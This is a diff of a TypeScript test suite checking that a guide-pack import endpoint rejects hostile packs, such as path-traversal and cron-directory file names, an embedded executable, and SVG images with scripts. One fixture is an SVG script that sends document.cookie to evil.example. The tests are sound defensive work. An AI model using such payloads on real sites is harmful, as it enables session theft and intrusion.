@@ -58,25 +58,53 @@ describe('hostile guide packs, through the gate', () => {
     'not a pack at all': () => Buffer.from('PK\u0003\u0004 this is a zip of photos'),
     truncated: () => good.subarray(0, Math.floor(good.length * 0.7)),
     'signed by an unknown key': () => buildPackFile(testSource({ packVersion: 1001 }), generatePackKeys().privatePem),
-    'a picture changed after signing': () => tamper(good, (a) => (a.files[svgOf(good)] = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64'))),
-    'a path escaping the guide folder': () => tamper(good, (a) => (a.files['../../../startup/evil.svg'] = 'PHN2Zz48L3N2Zz4=')),
+    'a picture changed after signing': () =>
+      tamper(
+        good,
+        (a) => (a.files[svgOf(good)] = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>').toString('base64')),
+      ),
+    'a path escaping the guide folder': () =>
+      tamper(good, (a) => (a.files['../../../startup/evil.svg'] = 'PHN2Zz48L3N2Zz4=')),
     'an absolute path': () => tamper(good, (a) => (a.files['/etc/cron.d/evil.json'] = 'e30=')),
     'a program inside': () => tamper(good, (a) => (a.files['vneid-level-1/setup.exe'] = 'TVqQAAMAAAAEAAAA')),
     // Signed and listed, referred to by no guide, still served under /packs/: checked all the same.
-    'an unsafe picture no guide refers to': () => buildPackFile(testSource({ packVersion: 1002 }, (files) => {
-      files.set('vneid-level-1/unused.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://evil.example/?"+document.cookie)</script></svg>'));
-    }), keys.privatePem),
-    'a picture with a namespaced script': () => buildPackFile(testSource({ packVersion: 1003 }, (files) => {
-      files.set('vneid-level-1/ns.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>'));
-    }), keys.privatePem),
+    'an unsafe picture no guide refers to': () =>
+      buildPackFile(
+        testSource({ packVersion: 1002 }, (files) => {
+          files.set(
+            'vneid-level-1/unused.svg',
+            Buffer.from(
+              '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://evil.example/?"+document.cookie)</script></svg>',
+            ),
+          );
+        }),
+        keys.privatePem,
+      ),
+    'a picture with a namespaced script': () =>
+      buildPackFile(
+        testSource({ packVersion: 1003 }, (files) => {
+          files.set(
+            'vneid-level-1/ns.svg',
+            Buffer.from(
+              '<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>',
+            ),
+          );
+        }),
+        keys.privatePem,
+      ),
     // JSON allows trailing spaces: only the size limit can refuse this one.
-    'one byte over the size limit': () => Buffer.concat([good, Buffer.alloc(PACK_LIMITS.fileBytes + 1 - good.length, 32)]),
+    'one byte over the size limit': () =>
+      Buffer.concat([good, Buffer.alloc(PACK_LIMITS.fileBytes + 1 - good.length, 32)]),
   };
   for (const [name, make] of Object.entries(cases)) {
     it(name, async () => {
       const before = await databaseChecksum(app.db);
       const files = folderState(app.dataDir);
-      const res = await app.call('guides.importPack', { fileName: `${name}.dhspack`, base64: make().toString('base64') }, admin);
+      const res = await app.call(
+        'guides.importPack',
+        { fileName: `${name}.dhspack`, base64: make().toString('base64') },
+        admin,
+      );
       expect(res.ok).toBe(false);
       if (!res.ok) {
         expect(res.status).toBeGreaterThanOrEqual(400);
@@ -89,7 +117,9 @@ describe('hostile guide packs, through the gate', () => {
     });
   }
   it('the good pack itself is accepted (so the refusals above are about the damage)', async () => {
-    expect((await app.call('guides.importPack', { fileName: 'good.dhspack', base64: good.toString('base64') }, admin)).ok).toBe(true);
+    expect(
+      (await app.call('guides.importPack', { fileName: 'good.dhspack', base64: good.toString('base64') }, admin)).ok,
+    ).toBe(true);
   });
 });
 
@@ -113,7 +143,8 @@ describe('hostile batches at the province', () => {
     await point.invoke('queue.finish', { ticketId: ticket!.id, outcome: 'guided_only' }, member);
     clock.set('2026-11-02T10:05:00.000Z');
     await point.invoke('logbook.closeDay', { day: '2026-11-02' }, await signInAs(point, 'commune_official'));
-    first = (await point.db.selectFrom('upload_batch').select('content').orderBy('seq').executeTakeFirstOrThrow()).content;
+    first = (await point.db.selectFrom('upload_batch').select('content').orderBy('seq').executeTakeFirstOrThrow())
+      .content;
     dir = mkdtempSync(join(tmpdir(), 'dhs-hostile-province-'));
     store = await openProvinceStore(join(dir, 'province.sqlite3'));
     await enrolPointOf(store, point.db);
